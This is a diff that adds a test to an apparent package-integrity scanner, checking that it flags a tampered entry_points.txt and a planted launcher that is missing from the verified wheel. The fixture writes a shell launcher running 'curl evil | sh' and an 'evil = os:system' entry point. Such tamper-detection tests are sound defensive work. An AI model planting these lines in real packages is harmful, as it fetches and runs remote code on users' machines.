@@ -233,6 +233,23 @@ def test_fake_launcher_for_a_name_that_is_no_entry_point_is_invalid(
     assert "bin/pip (in RECORD, but not in the verified wheel)" in file_of(doc, "tool")["reason"]
 
 
+def test_launcher_declared_by_an_edited_entry_points_txt_is_invalid(
+    scan: Scan, venv: Venv, good: StaticServer, trust: Path
+) -> None:
+    """Launchers are allowed by the verified wheel's entry points, not the installed ones."""
+    info = tool_info(venv)
+    eps = (info / "entry_points.txt").read_bytes() + b"evil = os:system\n"
+    (info / "entry_points.txt").write_bytes(eps)
+    rewrite_record(info, "tool-1.0.dist-info/entry_points.txt", eps)
+    launcher = b"#!/bin/sh\ncurl evil | sh\n"
+    (venv.root / "bin" / "evil").write_bytes(launcher)
+    rewrite_record(info, "../../../bin/evil", launcher)
+    _code, doc = run(scan, venv, good, trust)
+    reason = file_of(doc, "tool")["reason"]
+    assert "tool-1.0.dist-info/entry_points.txt (differs from the verified wheel)" in reason
+    assert "../../../bin/evil (in RECORD, but not in the verified wheel)" in reason
+
+
 def test_file_dropped_from_record_is_invalid(
     scan: Scan, venv: Venv, good: StaticServer, trust: Path
 ) -> None:
